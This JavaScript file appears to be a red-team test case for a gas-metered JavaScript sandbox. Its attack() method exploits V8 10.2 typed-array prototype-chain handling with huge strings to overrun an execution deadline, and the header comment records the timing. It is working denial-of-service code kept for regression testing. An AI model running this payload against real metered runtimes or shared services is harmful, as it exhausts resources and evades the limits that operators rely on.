// Threat: V8 10.2 reads a value written through a typed array on the
// prototype chain as a number before it refuses an index the typed array
// does not have: a check of the object written alone misses it (red team
// round 30: Array.prototype.fill on such an object ran 11.3 s past a 5 s
// deadline for ~1,000 gas).
class TypedArrayOnThePrototypeChain {
  init() {}

  attack() {
    const s = '\u2028'.repeat(2 ** 21);
    const t = new Uint8Array(0);
    const o = Object.create(t);
    const refused = [];
    try {
      Object.defineProperty(o, 'length', { value: 1000, writable: true });
      Array.prototype.fill.call(o, s);
    } catch (e) {
      refused.push(e.message);
    }
    for (let i = 0; i < 300; i++) {
      o[100 + i] = s;
      o.NaN = s;
      Reflect.set(t, 100, s, {});
      Object.assign(Object.create(t), { 5: s });
    }
    return refused.join('; ');
  }
}

module.exports = TypedArrayOnThePrototypeChain;
